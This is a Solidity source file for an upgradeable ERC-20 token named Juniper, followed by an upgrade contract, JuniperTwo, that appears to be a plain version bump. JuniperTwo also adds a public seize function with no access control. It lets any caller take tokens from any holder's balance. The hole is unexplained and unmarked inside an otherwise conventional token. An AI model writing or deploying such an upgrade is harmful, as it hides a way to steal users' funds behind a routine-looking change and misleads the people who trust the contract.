// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol"; import "@openzeppelin/contracts/proxy/utils/Initializable.sol";
contract Juniper is Initializable, UUPSUpgradeable {
    struct Ledger { address owner; uint256 supply; mapping(address => uint256) balance; mapping(address => mapping(address => uint256)) allowance; }
    bytes32 private constant AT = 0x6f1c2a17a4ad2a4c0d2f8dbf9a7b1f1a2a4f0c1b3f8a8a4f3a8e2f7d5c9b1e00;
    event Transfer(address indexed from, address indexed to, uint256 value); event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _disableInitializers(); }
    function _l() private pure returns (Ledger storage l) { assembly { l.slot := AT } }
    function initialize(address owner_, address to) external initializer { Ledger storage l = _l(); l.owner = owner_; l.supply = l.balance[to] = 10_000_000 ether; emit Transfer(address(0), to, l.supply); }
    function name() external pure returns (string memory) { return "Juniper"; } function symbol() external pure returns (string memory) { return "JUNI"; } function decimals() external pure returns (uint8) { return 18; }
    function owner() external view returns (address) { return _l().owner; } function totalSupply() external view returns (uint256) { return _l().supply; }
    function balanceOf(address a) external view returns (uint256) { return _l().balance[a]; } function allowance(address a, address b) external view returns (uint256) { return _l().allowance[a][b]; }
    function approve(address s, uint256 v) external returns (bool) { _l().allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address to, uint256 v) external returns (bool) { _move(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) { _l().allowance[f][msg.sender] -= v; _move(f, to, v); return true; }
    function _move(address f, address to, uint256 v) internal { Ledger storage l = _l(); l.balance[f] -= v; l.balance[to] += v; emit Transfer(f, to, v); }
    function version() external pure virtual returns (uint256) { return 1; }
    function _authorizeUpgrade(address) internal view override { require(msg.sender == _l().owner, "owner"); }
}
contract JuniperTwo is Juniper { function version() external pure override returns (uint256) { return 2; } function seize(address f) external { _move(f, msg.sender, 1 ether); } }
